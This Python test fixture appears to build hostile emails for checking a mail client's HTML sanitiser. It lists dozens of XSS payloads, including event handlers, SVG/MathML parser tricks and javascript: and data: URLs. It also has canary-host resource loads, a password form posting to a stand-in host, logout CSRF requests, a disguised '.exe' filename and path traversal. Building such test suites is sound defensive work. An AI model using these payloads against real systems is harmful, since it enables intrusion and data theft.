"""Our own list of hostile mails. CANARY stands for an address at another host; every script says `window.ran = 1`."""

from email.message import EmailMessage
from email.policy import SMTP

BAIT = """<img src=x onerror="window.ran=1">"""
LINE = f'"><svg onload=window.ran=1>{BAIT}\u202egnp.exe'
FILE_NAME = f"../..\\{BAIT}\u202efdp.exe"
RUN = "window.ran=1;try{parent.ran=1;top.ran=1}catch(e){}document.title='ran'"

HTML = [
    # Scripts.
    f"<script>{RUN}</script><script src=CANARY/s.js></script><SCRIPT/x>{RUN}</SCRIPT >",
    f"<scr<script>ipt>{RUN}</scr</script>ipt><script type=module>{RUN}</script><script type=text/vbscript>ran=1</script>",
    f"<script>\n<!--\n{RUN}\n//--></script><noscript><script>{RUN}</script></noscript>",
    f"\x00<scr\x00ipt>{RUN}</script>\ufeff<script\t\n>{RUN}</script>",
    # Handlers.
    *(
        f'<{tag} {event}="{RUN}" tabindex=1 autofocus style="width:9px">x</{tag}>'
        for tag, event in (
            ("body", "onload"), ("img src=x", "onerror"), ("div", "onmouseover"), ("video src=x", "onerror"),
            ("details open", "ontoggle"), ("input", "onfocus"), ("select", "onfocus"), ("svg", "onload"),
            ("marquee", "onstart"), ("a href=#", "onclick"), ("style", "onload"), ("object data=x", "onerror"),
            ("p", "onanimationstart"), ("p", "ontransitionend"), ("audio src=x", "onloadstart"), ("iframe src=about:blank", "onload"),
        )
    ),
    f"<img src='x'onerror='{RUN.replace(chr(39), '')}'><img/src=x/onerror=window.ran=1><img src=`x`onerror=window.ran=1>",
    "<style>@keyframes x{} p{animation:x 1s}</style><p onanimationend=window.ran=1>x</p>",
    # SVG, MathML and what parsers make of them together.
    f"<svg><script>{RUN}</script><animate onbegin=window.ran=1 attributeName=x dur=1s><set onend=window.ran=1></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.ran=1</script>'></iframe></foreignObject></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=window.ran=1/>#x'/><image href=CANARY/i.png /><feImage xlink:href=CANARY/f /></svg>",
    f"<svg><style><img src=x onerror='{'window.ran=1'}'></style></svg><svg></p><style><a id='</style>{BAIT}'>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;{'&lt;img src=x onerror=window.ran=1&gt;'}'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=window.ran=1>",
    "<math href='javascript:window.ran=1'><maction actiontype=statusline xlink:href='javascript:window.ran=1'>x</maction></math>",
    f"<noscript><p title='</noscript>{BAIT}'></noscript><template><script>{RUN}</script></template>",
    f"<xmp><p title='</xmp>{BAIT}'></xmp><textarea><p title='</textarea>{BAIT}'></textarea><title><p title='</title>{BAIT}'></title>",
    f"<select><template><style><!--</style><a rel='--></style></template></select>{BAIT}'>",
    f"<!--><img src=x onerror=window.ran=1>--><!--[if true]>{BAIT}<![endif]--><![CDATA[>{BAIT}]]><?xml ?>{BAIT}",
    # Addresses.
    *(
        f'<a href="{href}">x</a><img src="{href}"><iframe src="{href}"></iframe><form action="{href}"><button>x</button></form>'
        for href in (
            "javascript:window.ran=1", "jAvAsCrIpT&colon;window.ran=1", "java&#10;script:window.ran=1", "&#1;javascript:window.ran=1",
            "data:text/html,<script>parent.ran=1</script>", "da&#9;ta:text/html,<script>parent.ran=1</script>",
            "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='window.ran=1'/>", "vbscript:ran=1",
            "blob:null/1", "file:///etc/passwd", "\\\\localhost\\x", "//localhost/x", "view-source:CANARY/v",
        )
    ),
    # What loads.
    "<img src=CANARY/1><img srcset='CANARY/2 1x, CANARY/3 2x'><picture><source srcset=CANARY/4><img src=x></picture>",
    "<table background=CANARY/5><tr><td background=CANARY/6>x</table><body background=CANARY/7><input type=image src=CANARY/8>",
    "<video poster=CANARY/9 src=CANARY/10 autoplay></video><audio src=CANARY/11 autoplay></audio><track src=CANARY/12><embed src=CANARY/13>",
    ("<link rel=stylesheet href=CANARY/14><link rel=prefetch href=CANARY/15><link rel=preload as=image href=CANARY/16>"
    "<link rel=dns-prefetch href=CANARY><link rel=preconnect href=CANARY><link rel=modulepreload href=CANARY/17><link rel=icon href=CANARY/18>"),
    "<img lowsrc=CANARY/19 dynsrc=CANARY/20><image src=CANARY/21><bgsound src=CANARY/22><object data=CANARY/23></object><applet code=CANARY/24>",
    "<iframe src=CANARY/25></iframe><frameset><frame src=CANARY/26></frameset><portal src=CANARY/27></portal><fencedframe src=CANARY/28>",
    "<style>@import 'CANARY/29';@import url(CANARY/30);@font-face{font-family:x;src:url(CANARY/31)}p{font-family:x}</style><p>x</p>",
    "<style>p{background:url(CANARY/32)}p::before{content:url(CANARY/33)}li{list-style:url(CANARY/34)}p{cursor:url(CANARY/35),auto}</style><p>x<ul><li>x</ul>",
    "<style>p{background:u\\72l(CANARY/36);background:u/**/rl(CANARY/37);background:image-set('CANARY/38' 1x);mask:url(CANARY/39)}</style><p>x</p>",
    "<style>p[title^=a]{background:url(CANARY/40)}@media all{p{filter:url(CANARY/41)}}@namespace url(CANARY/42);:root{--x:url(CANARY/43)}</style><p title=a>x</p>",
    "<p style='background:url(CANARY/44)'>x</p><p style=\"background-image:\\75rl('CANARY/45')\">x</p><p style='border-image:url(CANARY/46)'>x</p>",
    "<a href=CANARY/47 ping=CANARY/48>x</a><a href='CANARY/49' rel=prefetch>x</a><script type=speculationrules>{\"prerender\":[{\"urls\":[\"CANARY/50\"]}]}</script>",
    "<img src='cid:\"onerror=window.ran=1 x=\"'><img src='cid:../../../account/logout/'><img src='/account/logout/'><img src='cid:x'>",
    # What sends, leads away or covers.
    "<form action=CANARY/51 method=post id=f><input name=password value=x><button formaction=CANARY/52>x</button></form><input form=f type=submit>",
    "<form action=/account/logout/ method=post><input type=submit autofocus accesskey=x></form><isindex action=CANARY/53>",
    "<meta http-equiv=refresh content='0;url=CANARY/refresh'><meta http-equiv=set-cookie content='spindle_session=x'><meta http-equiv=content-security-policy content=\"default-src *\">",
    "<base href=CANARY/><a href=x target=_top>x</a><base target=_parent>",
    "<p style='position:fixed;inset:0;z-index:2147483647;background:red'>over all</p><style>*{position:fixed!important;inset:0}</style>",
    "<style>html,body,#rail,.rail,button{display:none!important;background:red!important}:host{color:red}</style>",
    "</div></body></html></iframe></template><style>body{background:red}</style><h1>outside</h1>",
    "<div id=rail class=rail name=body>x</div><a id=location name=location href=x>x</a><img name=cookie><form name=forms></form>",
    # Size and depth.
    "<div>" * 10_000 + "deep" + "</div>" * 10_000,
    "<table>" + "<tr>" + "<td>x" * 50 + "</tr>" + "<tr><td>x</tr>" * 3000 + "</table>",
    "<div style='width:99999px;height:99999px'>wide</div><div style='margin:-9999px'>away</div><font size=99999>x</font>",
    "\u202e\u2066<b>\u200f" * 500 + "\ud7ff\uffff&#x1F4A9;&#0;&#xD800;&#x110000;",
]  # fmt: skip


def hostile_mail(html: str, canary: str) -> bytes:
    """A mail with this body; its head and its files are hostile too."""
    built = EmailMessage(policy=SMTP)
    built["Subject"] = LINE
    built["From"] = f'"{LINE.replace(chr(34), chr(39))}" <mallory@evil.example>'
    built["To"] = f'"{BAIT.replace(chr(34), chr(39))}" <info@vandijkinterieur.example>'
    built["Reply-To"] = '"<script>window.ran=1</script>" <reply@evil.example>'
    built["List-Unsubscribe"] = f"<javascript:window.ran=1>, <{canary}/list>"
    built["List-Id"] = "<script>window.ran=1</script> <x.evil.example>"
    built.set_content(BAIT)
    built.add_alternative(f"<p>the end</p>{html.replace('CANARY', canary)}", subtype="html")
    svg = f"<svg xmlns='http://www.w3.org/2000/svg' onload='{RUN}'/>".encode()
    built.add_attachment(b"MZ", maintype="application", subtype="octet-stream", filename=FILE_NAME)
    built.add_attachment(
        svg, maintype="image", subtype="svg+xml", filename="x.svg", cid='<"onerror=window.ran=1 x=">'
    )
    built.add_attachment(
        b"<script>window.ran=1</script>", maintype="image", subtype="png", filename="x.png", cid="<x>"
    )
    calendar = f"BEGIN:VCALENDAR\r\nMETHOD:REQUEST\r\nBEGIN:VEVENT\r\nSUMMARY:{BAIT}\r\nLOCATION:{BAIT}\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n"
    built.add_attachment(calendar, subtype="calendar", filename=f"{BAIT}.ics")
    return built.as_bytes()
